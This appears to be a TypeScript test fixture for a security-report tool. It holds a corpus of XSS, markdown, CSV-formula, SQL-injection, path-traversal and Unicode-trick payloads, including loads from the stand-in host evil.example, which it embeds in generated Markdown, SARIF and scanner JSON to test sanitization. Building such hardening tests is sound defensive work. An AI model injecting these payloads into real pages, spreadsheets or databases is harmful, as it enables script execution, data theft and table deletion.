// The hostile-content corpus: XSS and injection payloads as a malicious or careless report could
// carry them. Each payload, if it ever ran, would set `window.__pwned` (and call alert) or fetch
// from evil.example — what the browser test watches for. `{id}` is replaced by the payload's id.
// Used by tests/hardening/*.test.ts (ingest, exports) and e2e/hostile.spec.ts (rendering).

export interface Payload {
  id: string;
  kind: string;
  text: string;
}

const RAW: Array<[kind: string, text: string]> = [
  ['script tag', '<script>window.__pwned="{id}";alert("{id}")</script>'],
  ['script src', '<script src="https://evil.example/{id}.js"></script>'],
  ['img onerror', '<img src=x onerror="window.__pwned=\'{id}\';alert(1)">'],
  ['svg onload', '<svg onload="window.__pwned=\'{id}\'"><circle r=10 /></svg>'],
  ['svg script', '<svg><script>window.__pwned="{id}"</script></svg>'],
  ['body onload', '<body onload="window.__pwned=\'{id}\'">'],
  ['details ontoggle', '<details open ontoggle="window.__pwned=\'{id}\'"><summary>x</summary></details>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__pwned=\'{id}\'</script>"></iframe>'],
  ['iframe javascript', '<iframe src="javascript:window.__pwned=\'{id}\'"></iframe>'],
  ['object data', '<object data="https://evil.example/{id}.swf"></object><embed src="https://evil.example/{id}.svg">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/{id}">'],
  ['base href', '<base href="https://evil.example/{id}/">'],
  ['form action', '<form action="https://evil.example/{id}"><button>go</button></form>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/{id}.css">'],
  ['style import', '<style>@import url("https://evil.example/{id}.css"); body{background:url(https://evil.example/{id}.png)}</style>'],
  ['inline style url', '<div style="background-image:url(https://evil.example/{id}.png)">styled</div>'],
  ['markdown javascript link', '[click here](javascript:window.__pwned=\'{id}\')'],
  ['markdown encoded javascript link', '[click](jav&#x61;script:window.__pwned=\'{id}\') [tab](java\tscript:window.__pwned=\'{id}\')'],
  ['markdown data link', '[open](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)'],
  ['markdown vbscript link', '[vb](vbscript:msgbox("{id}"))'],
  ['markdown image remote', '![tracking pixel](https://evil.example/{id}.png)'],
  ['markdown image data svg', '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)'],
  ['markdown reference link', '[ref link][evil{id}]\n\n[evil{id}]: javascript:window.__pwned=\'{id}\''],
  ['autolink javascript', '<javascript:window.__pwned=\'{id}\'> and <https://evil.example/{id}>'],
  ['html entity smuggling', '&lt;script&gt;window.__pwned="{id}"&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;'],
  ['mathml', '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'{id}\'"></style></mglyph></table></mtext></math>'],
  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'{id}\'>"></noscript>'],
  ['textarea breakout', '</textarea><script>window.__pwned="{id}"</script>'],
  ['attribute breakout', '" onmouseover="window.__pwned=\'{id}\'" x="'],
  ['template injection', '{{constructor.constructor(\'window.__pwned="{id}"\')()}} ${window.__pwned="{id}"}'],
  ['html comment trick', '<!-- --><script>window.__pwned="{id}"</script><!-- -->'],
  ['csv formula cmd', "=cmd|' /C calc'!A0 {id}"],
  ['csv formula after a control character', "\u0000=cmd|' /C calc'!A0 {id}"],
  ['csv formula after a tab', "\t=1+1 {id}"],
  ['csv formula hyperlink', '=HYPERLINK("https://evil.example/{id}","click") +1+1 -2+3 @SUM(A1:A2)'],
  ['sql injection', "'); DROP TABLE findings; -- {id} \" OR 1=1 --"],
  ['fts query syntax', '"unbalanced NEAR( {id} * OR AND NOT col:x ^'],
  ['path traversal', '../../../../etc/passwd {id} ..\\..\\windows\\system32'],
  ['rtl override', 'invoice\u202Egnp.exe {id} \u2066isolate\u2069 \u200F\u061C'],
  ['zero width and bom', 'pay\u200Bload\u200D{id}\uFEFF\u2060'],
  ['null bytes', 'before\u0000after {id} \u0000<script>window.__pwned="{id}"</script>'],
  ['control characters', 'bell\u0007 backspace\u0008 escape\u001b[31m red {id} \u001b[0m'],
  ['very long line', `{id} ${'A'.repeat(20_000)}<img src=x onerror="window.__pwned='{id}'">${'B'.repeat(20_000)}`],
  ['markdown table injection', '| a | b |\n|---|---|\n| <img src=x onerror=window.__pwned=\'{id}\'> | [x](javascript:alert(1)) |'],
  ['prototype keys', '__proto__ constructor prototype {id} {"__proto__":{"polluted":"{id}"}}'],
  ['unicode escapes', '\\u003cscript\\u003ewindow.__pwned="{id}"\\u003c/script\\u003e \\x3cimg src=x onerror=alert(1)\\x3e'],
];

export const PAYLOADS: Payload[] = RAW.map(([kind, text], i) => {
  const id = `HX${String(i + 1).padStart(2, '0')}`;
  return { id, kind, text: text.replaceAll('{id}', id) };
});

/** A one-line form of a payload (Markdown headings, list items and paths hold one line). */
export const oneLine = (t: string): string => t.replace(/\r?\n+/g, ' ');

/** Characters that cannot be in a path on disk or in a one-line field; the rest stays. */
const pathSafe = (t: string): string => oneLine(t).replace(/\u0000/g, '');

/** A Markdown report with every payload in a finding title, a finding body, a file path and a checklist item. */
export function hostileMarkdown(): string {
  const lines = ['# Security Review: hostile content', '', '## Bugs Found', ''];
  for (const p of PAYLOADS) {
    lines.push(
      `### BUG-${p.id}: ${p.id} ${oneLine(p.text).slice(0, 300)}`,
      `- **File:** src/${pathSafe(p.text).slice(0, 200).replace(/:/g, '_')}/${p.id}.ts:12`,
      '- **Severity:** P1 (High)',
      `- **Description:** ${p.id} body follows.`,
      '',
      p.text,
      '',
    );
  }
  lines.push('## Deployment Checklist (Must Pass Before Deployment)', '');
  for (const p of PAYLOADS) lines.push(`- [ ] ${p.id} ${oneLine(p.text).slice(0, 500)}`);
  lines.push('');
  // a raw NUL makes a text file binary (refused whole: see the malformed corpus); JSON carries it escaped
  return lines.join('\n').replace(/\u0000/g, '');
}

/** A SARIF 2.1.0 log with every payload in a result message, a rule's help (text and Markdown), a rule name and an artifact path. */
export function hostileSarif(): string {
  const rules = PAYLOADS.map((p) => ({
    id: `hostile/${p.id}`,
    name: `${p.id}${oneLine(p.text).slice(0, 200)}`,
    shortDescription: { text: `${p.id} ${oneLine(p.text).slice(0, 200)}` },
    fullDescription: { text: `${p.id} ${p.text}` },
    help: { text: `${p.id} help: ${p.text}`, markdown: `${p.id} **help**: ${p.text}` },
    helpUri: `javascript:window.__pwned='${p.id}'`,
    defaultConfiguration: { level: 'error' },
  }));
  const results = PAYLOADS.map((p, i) => ({
    ruleId: `hostile/${p.id}`,
    ruleIndex: i,
    level: 'error',
    message: { text: `${p.id} message: ${p.text}`, markdown: `${p.id} message: ${p.text}` },
    locations: [
      {
        physicalLocation: {
          artifactLocation: { uri: `src/${encodeURIComponent(pathSafe(p.text).slice(0, 200))}/${p.id}.js` },
          region: { startLine: i + 1, startColumn: 1 },
        },
      },
    ],
  }));
  return JSON.stringify(
    {
      $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
      version: '2.1.0',
      runs: [{ tool: { driver: { name: 'HostileScanner <script>window.__pwned="tool"</script>', rules } }, results }],
    },
    null,
    2,
  );
}

/** Scanner JSON (DefectDojo generic) with payloads in titles, descriptions and file paths. */
export function hostileGenericJson(): string {
  return JSON.stringify({
    findings: PAYLOADS.map((p) => ({
      // the title starts with the payload itself (spreadsheet formulas need the first character)
      title: oneLine(p.text).slice(0, 300),
      description: `${p.id} ${p.text}`,
      severity: 'High',
      file_path: `lib/${pathSafe(p.text).slice(0, 100)}/${p.id}.py`,
      line: 7,
    })),
  });
}
